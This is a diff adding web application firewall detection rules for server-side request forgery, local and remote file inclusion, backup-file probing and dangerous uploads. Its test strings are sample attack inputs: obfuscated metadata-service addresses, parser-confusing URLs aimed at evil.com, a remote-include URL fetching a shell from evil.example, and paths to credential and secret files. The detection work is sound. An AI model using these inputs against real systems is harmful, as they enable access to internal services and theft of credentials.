@@ -1,0 +1,250 @@
+# Server-side request forgery and file access (ids 300008000-300008999): hosts written so that a
+# naive check does not see the internal address (integer, hex, octal and mixed forms, IPv6
+# literals, enclosed alphanumerics, ideographic dots, escaped letters), URL parsers confused by
+# credentials and encoded separators, cloud metadata services, unusual schemes; files and
+# directories an application never serves (kernel interfaces, tool configuration, secrets).
+# Format: see src/waf/signatures/db.rs. Pass examples are drawn from real traffic.
+
+id: 300008001
+name: SSRF: internal address written as an integer, in hex or octal, or in a short form
+type: Server-Side Request Forgery (SSRF)
+accuracy: high
+risk: high
+targets: @values, header, param-name
+unless: binary
+literal: :
+regex: (?:\b(?:https?|ftps?|gopher|dict|ldaps?|ssh|sftp|smb|tftp|wss?|jar|netdoc|acap|imap|irc|pop3|rtmp|rtsp|telnet|file):/{0,2}|\b[a-z][a-z0-9+.-]{1,15}://)(?:[^/@\s]*@)?(?:\d{8,10}|0x[0-9a-f]{8,16}|0x[0-9a-f]{1,2}(?:\.0x[0-9a-f]{1,2}){1,3}|0[0-7]{1,3}(?:\.0+[0-7]{0,3}){1,3}|0[0-7]{9,11}|\d{1,3}\.\d{4,8}|\d{1,3}\.\d{1,3}\.\d{4,5})(?:[:/?#\\]|$)
+test: http://2130706433/
+test: http://0xA9.0xFE.0xA9.0xFE/
+test: http://0x41414141A9FEA9FE/
+test: http://0251.0376.0251.0376/
+test: ssh://0177.00.00.01
+test: rtmp://017700000001
+test: http://169.254.43518/
+test: http://169.16689662/
+test: http:123456789
+pass: string:1665619818
+pass: repository:1340691923/ElasticView
+pass: https://www.example.com/order/12345678
+pass: tel:+12025550123
+pass: https://cdn.example.com:8443/a.js
+
+id: 300008002
+name: SSRF: IPv6 literal host (mapped IPv4, link-local, zone ids)
+type: Server-Side Request Forgery (SSRF)
+accuracy: medium
+risk: high
+targets: @values, header, param-name
+unless: binary
+literal: [
+regex: (?:\b(?:https?|ftps?|gopher|dict|ldaps?|ssh|sftp|smb|tftp|wss?|jar|netdoc|acap|imap|irc|pop3|rtmp|rtsp|telnet|file):/{0,2}|\b[a-z][a-z0-9+.-]{1,15}://)(?:[^/@\s]*@)?\[[0-9a-f:.]*:[0-9a-f:.]*(?:%[\w-]+)?\]
+test: http://[::ffff:a9fe:a9fe]
+test: http://[0:0:0:0:0:ffff:a9fe:a9fe]
+test: http://[fe80::%zone1]
+test: http:[::ffff:a9fe:a9fe]
+test: http://[dead:beef:dead::beef:dead:beef:dead]
+pass: a[b:c] text
+pass: https://example.com/list[0]
+
+id: 300008003
+name: SSRF: host hidden by Unicode look-alikes or escapes
+type: Server-Side Request Forgery (SSRF)
+accuracy: high
+risk: high
+targets: @values, header, param-name
+unless: binary
+literal: ://
+regex: ://(?:[^/\s]*?(?:\xe2\x91[\xa0-\xbf]|\xe2\x92[\x80-\xbf]|\xe2\x93[\x80-\xbf]|\xe3\x80\x82|\xef\xbc\x8e|\xef\xbd\xa1)){2}|://(?:\\[a-z0-9.]){4}
+test: acap://①②⑦.⓪.⓪.①
+test: irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ
+test: http://169。254。169。254/
+test: http://\l\o\c\a\l\h\o\s\t/
+pass: https://例子.测试/页面
+pass: https://example.com/②
+
+id: 300008004
+name: SSRF: URL whose authority confuses parsers (credentials, encoded slash, fragment)
+type: Server-Side Request Forgery (SSRF)
+accuracy: high
+risk: high
+# One value: in a whole query string or form body `&` separates parameters.
+targets: param-value, cookie, json, xml, header, param-name
+unless: binary
+literal: @
+regex: \b(?:https?|ftp|gopher|dict|ldap)://[^/@\s]*(?:%2f|%5c|\\|\s|%20|&|#|%23)[^/\s]*@|\b(?:https?|ftp)://[^/\s@]*@[^/\s@]*@
+test: http://example.com%2f@evil.com/
+test: http://google.com:80 &@127.88.23.245:22/#
+test: http://example.com%2f:foo@bar@evil.com/
+pass: https://user@example.com/path
+pass: mailto:someone@example.com
+
+id: 300008005
+name: SSRF: cloud and container metadata services
+type: Server-Side Request Forgery (SSRF)
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+unless: binary
+literal: 192.0.0.192
+literal: 168.63.129.16
+literal: 169.254.170.2
+literal: metadata
+literal: 100.100.100.200
+regex: \b192\.0\.0\.192\b|\b168\.63\.129\.16\b|\b169\.254\.170\.2\b|://metadata(?:\.\w+)*(?:[:/]|$)|/(?:opc/v[12]/instance|metadata/identity/oauth2/token|openstack/latest/meta_data\.json|v1/credentials|computeMetadata/v1)\b
+test: http://192.0.0.192/latest/user-data/
+test: http://168.63.129.16/machine?comp=goalstate
+test: http://metadata/computeMetadata/v1/
+pass: metadata about the product
+
+id: 300008006
+name: SSRF and file access: unusual URL schemes
+type: Server-Side Request Forgery (SSRF)
+accuracy: high
+risk: high
+targets: @values, header, param-name
+unless: binary
+literal: local_file:
+literal: file:
+literal: netdoc:
+literal: jar:
+literal: ldap:
+literal: dict:
+literal: gopher:
+regex: \blocal_file:|\b(?:netdoc|gopher|dict):/{0,2}\S|\bfile:(?:\\\\|/{4,}|///?[a-z]:)|\bjar:[a-z]+:
+test: local_file://something
+test: file:////etc/passwd
+test: file:///c:/windows/win.ini
+pass: the file: report.pdf
+
+id: 300008007
+name: Local file inclusion: kernel and process interfaces
+type: Path Traversal
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+unless: binary
+literal: /proc/
+literal: /sys/
+literal: /dev/
+regex: (?:^|[^\w.-])/proc/(?:self|\d+|sys|net|version|cmdline|environ|cpuinfo|meminfo|mounts|kallsyms|kcore|sched_debug|thread-self)\b|(?:^|[^\w.-])/sys/(?:class|kernel|devices|module|block|firmware|fs|power|bus|hypervisor)\b|(?:^|[^\w.-])/dev/(?:mem|kmem|port|shm|mqueue|fd/|stdin|stdout|stderr|tty\w*|null|zero|random|urandom)\b
+test: /sys/class
+test: /proc/sys/kernel/randomize_va_space
+test: /proc/self/environ
+pass: /products/system/class-a
+pass: https://example.com/dev/null-handling
+
+id: 300008008
+name: Local file access: tool, agent and secret configuration directories
+type: Path Traversal
+accuracy: high
+risk: medium
+targets: url, @values, param-name
+unless: binary
+literal: /.
+regex: (?:^|/)\.(?:git|svn|hg|bzr|cvs|env|aws|ssh|gnupg|docker|kube|npmrc|pypirc|netrc|pgpass|vscode|idea|htaccess|htpasswd|bash_history|zsh_history|mysql_history|python_history|psql_history|sqlite_history|node_repl_history|rediscli_history|viminfo|git-credentials|gitconfig|dockerenv|boto|s3cfg|ds_store|claude|cursor|continue|aider|roo|zed|cline|kiro|windsurf|rovodev|codex|opencode|a0proj|plandex|fabric|n8n|junie|gemini|copilot|codeium|tabnine|sourcegraph|amazonq|devcontainer|terraform|azure|gcloud|config/(?:gcloud|gh|hub|rclone))(?:\.[\w-]+)*(?:/[\w./-]*)?(?:$|[?#])
+test: /.claude/settings.json
+test: /app/.claude/settings.local.json
+test: /.git/config
+test: /.env
+test: /.kiro/hooks/preToolUse.sh
+test: /.git-credentials
+test: /home/app/.psql_history
+test: /.dockerenv
+pass: /.well-known/acme-challenge/token
+pass: /.github/workflows/ci.yml
+pass: /css/main.env-blue.css
+
+id: 300008009
+name: Remote file inclusion: URL in a parameter that names a path or configuration
+type: Remote File Include
+accuracy: high
+risk: high
+targets: query, body
+unless: binary
+literal: ://
+regex: (?:^|[&?])(?:_?conf(?:ig)?\[\w+\]|mosconfig_\w+|include_path|includedir|include_dir|path_to_root|phpbb_root_path|root_path|rootpath|abs(?:olute)?_?path|basepath|base_path|base_dir|lib_path|libdir|class_path|template_path|module_path|appdir|app_path|pear_path|gallery_basedir|dir\[\w+\])\s*=\s*(?:https?|ftps?|php|data|expect|zip|phar)://
+test: _CONF[path]=https://foo.bar
+test: mosConfig_absolute_path=https://foo.bar
+test: a=1&include_path=http://evil.example/shell.txt
+pass: redirect_uri=https://example.com/callback
+pass: return_path=/account
+
+id: 300008010
+name: Remote file inclusion: URL ending in a question mark
+type: Remote File Include
+accuracy: medium
+risk: high
+targets: query, param-value, param-name, cookie
+unless: binary
+literal: ?
+regex: ^\s*(?:https?|ftps?|file|php)://[^\s?]*\?+\s*$|^\s*(?:https?|ftps?)://\S+\?{2,}\s*$
+test: https://foo.bar?
+test: http://evil.example/shell.txt?
+pass: https://example.com/page?id=1
+pass: what?
+
+id: 300008011
+name: Local file access: database dump, site backup archive or backup copy of a script or configuration file
+type: Path Traversal
+accuracy: medium
+risk: medium
+targets: url, param-value
+unless: binary
+literal: .sql
+literal: .bak
+literal: .old
+literal: .orig
+literal: .swp
+literal: .swo
+literal: .save
+literal: .tmp
+literal: .copy
+literal: ~
+literal: backup
+literal: dump
+literal: .zip
+literal: .tar
+literal: .tgz
+literal: .rar
+literal: .7z
+regex: (?:^|[/\=])[\w.-]*\.(?:sql|dump)(?:\.(?:gz|bz2|xz|zip|tar|tgz|7z|rar))?$|\.(?:php\d?|phtml|inc|asp|aspx|jsp|config|conf|cfg|ini|ya?ml|env|py|rb|pl|cgi|sh|htaccess)(?:\.(?:bak|old|orig|save|swp|swo|tmp|copy)|~)$|(?:^|[/\=])(?:backup|backups|bak|dump|db|database|www|wwwroot|site|web|html|htdocs|public_html|sql)\.(?:zip|tar|tar\.gz|tgz|gz|rar|7z|sql)$|(?:^|[/\=])[\w-]*(?:backup|dump)[\w-]*\.(?:sql|zip|tar|tar\.gz|tgz|gz|rar|7z)$
+test: /backup.sql.gz
+test: /db.sql
+test: /wp-config.php.bak
+test: /www.zip
+test: /site-backup-2024.tar.gz
+test: /index.php.orig
+test: /.index.php.swp
+test: /config/settings.yml.old
+test: /index.php~
+pass: /downloads/report-2024.zip
+pass: /static/app.js
+pass: /docs/sql-tutorial.html
+pass: /assets/old-logo.png
+pass: /db.bak
+pass: /files/notes.old
+
+id: 300008012
+name: File upload: server-side script or configuration file, by the name it is to be stored under
+type: Remote File Include
+accuracy: high
+risk: high
+targets: filename
+unless: binary
+literal: .
+regex: \.\s*(?:php\d?|phtml|phar|pht|phps|pgif|shtml|asp|aspx|asa|asax|ascx|ashx|asmx|cer|jsp|jspx|jspf|cfm|cgi)\s*(?:\.\s*[\w-]{1,8}\s*)?$|(?:^|[/\\])\s*(?:\.htaccess|\.htpasswd|\.user\.ini|web\.config|wp-config(?:[\w.-]*)|(?:settings|config|configuration|local|database|secrets?|credentials|parameters|application)\s*\.\s*(?:php|inc|ya?ml|ini|conf|cfg|json|xml|toml|env|properties)|\.env(?:\.[\w-]+)?|\.boto|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\.bash_profile|\.bashrc|\.profile|\.ssh/authorized_keys|authorized_keys|id_(?:rsa|dsa|ecdsa|ed25519))\s*$
+test: shell.php
+test: test. php.jpg
+test: test.phar .png
+test: avatar.php5.gif
+test: settings. php
+test: config.yml 
+test: wp-config_php.txt
+test: .htaccess
+test: web.config
+test: ../../.ssh/authorized_keys
+pass: holiday-photo.jpg
+pass: report.pdf
+pass: my.php.notes.docx
+pass: config-guide.pdf
+pass: php-tutorial.zip
